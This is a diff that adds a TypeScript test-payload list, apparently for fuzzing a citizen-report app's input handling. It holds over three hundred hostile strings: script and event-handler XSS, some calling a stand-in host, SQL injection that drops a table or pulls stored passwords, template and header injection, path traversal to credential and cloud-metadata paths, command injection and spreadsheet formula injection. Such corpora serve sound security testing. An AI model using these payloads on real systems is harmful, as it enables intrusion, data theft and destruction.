@@ -1,0 +1,125 @@
+/** What runs when it is not escaped; `zqx` marks what came from here. */
+const RUNS = ['alert(1)', 'zqx=1', 'fetch(`//zqx.example`)', 'top.zqx=1', 'eval(name)']
+const MARKUP = [
+  (js: string) => `<script>${js}</script>`,
+  (js: string) => `<ScRiPt>${js}</sCrIpT>`,
+  (js: string) => `"><script>${js}</script>`,
+  (js: string) => `'><img src=zqx onerror=${js}>`,
+  (js: string) => `<img src=x onerror="${js}">`,
+  (js: string) => `<svg/onload=${js}>`,
+  (js: string) => `<svg><animate onbegin=${js} attributeName=x>`,
+  (js: string) => `" onfocus="${js}" autofocus="`,
+  (js: string) => `' onmouseover='${js}`,
+  (js: string) => `</textarea><script>${js}</script>`,
+  (js: string) => `</title><script>${js}</script>`,
+  (js: string) => `</style><script>${js}</script>`,
+  (js: string) => `--><script>${js}</script>`,
+  (js: string) => `]]><script>${js}</script>`,
+  (js: string) => `<iframe srcdoc="<script>${js}</script>">`,
+  (js: string) => `<a href="javascript:${js}">zqx</a>`,
+  (js: string) => `javascript:${js}`,
+  (js: string) => `data:text/html,<script>${js}</script>`,
+  (js: string) => `<details open ontoggle=${js}>`,
+  (js: string) => `<math><mi//xlink:href="data:x,<script>${js}</script>">`,
+  (js: string) => `<object data="javascript:${js}">`,
+  (js: string) => `<base href="//zqx.example/"><b>${js}</b>`,
+  (js: string) => `<zqx-a onclick=${js}>x</zqx-a>`,
+  (js: string) => `&lt;script&gt;${js}&lt;/script&gt;`,
+  (js: string) => `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
+  (js: string) => `%3Cscript%3E${js}%3C/script%3E`,
+  (js: string) => `＜script＞${js}＜/script＞`,
+  (js: string) => `<<script>${js}//<</script>`,
+] as const
+
+const CLOSERS = ["'", '"', "')", "'))", '`', '', '\\', '%27']
+const SQL = [
+  ' or 1=1--',
+  ' or pg_sleep(3)--',
+  '; drop table citizen_reports.laporan--',
+  ' union select null,null,version()--',
+  ' and 1=cast(version() as int)--',
+  '; select pg_sleep(3);--',
+  " || (select string_agg(sandi, ',') from identity.akun) || ",
+  ' group by 1 having 1=1--',
+  '/**/or/**/true/*',
+  ' returning *--',
+]
+
+const TEMPLATES = [
+  '{{7*7}}',
+  ['$', '{7*7}'].join(''),
+  '<%= 7*7 %>',
+  '#{7*7}',
+  '{{constructor.constructor("zqx")()}}',
+  '%s%s%n',
+  '{0}',
+  ['[[$', '{7*7}]]'].join(''),
+  '*{7*7}',
+  '@(7*7)',
+]
+const BREAKS = [
+  '\r\nSet-Cookie: zqx=1',
+  '\nLocation: //zqx.example',
+  '\r\n\r\n<script>zqx</script>',
+  '%0d%0aX-Zqx: 1',
+  '\u2028zqx',
+  '\u0085zqx',
+  '\r\nBcc: zqx@pendopo.example',
+  'zqx\nlevel=error msg=palsu',
+]
+const PATHS = [
+  '../../../../etc/passwd',
+  '..\\..\\windows\\win.ini',
+  '/proc/self/environ',
+  'file:///etc/passwd',
+  '....//....//etc/passwd',
+  '%2e%2e%2fetc%2fpasswd',
+  'php://filter/resource=x',
+  '\\\\zqx.example\\c$',
+  '|id',
+  ';id;',
+  '$(id)',
+  '`id`',
+  '&& id',
+  'http://169.254.169.254/latest/meta-data/',
+  'http://127.0.0.1:5432/',
+]
+const CELLS = [
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  '-2+3',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '＝1+1',
+  '=HYPERLINK("//zqx.example")',
+]
+const LETTERS = [
+  '\u202Etxt.exe',
+  'a\u0300'.repeat(40),
+  '\uFEFFzqx',
+  'İıſK',
+  '𝕏'.repeat(50),
+  '\uD83D',
+  '__proto__',
+  'constructor',
+  '[object Object]',
+  'null',
+  'undefined',
+  'NaN',
+  '-1',
+  '1e309',
+  '0x7f',
+]
+
+/** More than three hundred hostile texts, the same at every run. */
+export const PAYLOADS: readonly string[] = [
+  ...new Set([
+    ...MARKUP.flatMap((wrap) => RUNS.map(wrap)),
+    ...CLOSERS.flatMap((close) => SQL.map((tail) => `x${close}${tail}`)),
+    ...TEMPLATES.flatMap((one) => [one, `halo ${one} di sana`]),
+    ...BREAKS.flatMap((one) => [one, `Jalan rusak${one}`]),
+    ...PATHS.flatMap((one) => [one, `foto${one}`]),
+    ...CELLS.flatMap((one) => [one, ` ${one}`]),
+    ...LETTERS,
+  ]),
+]
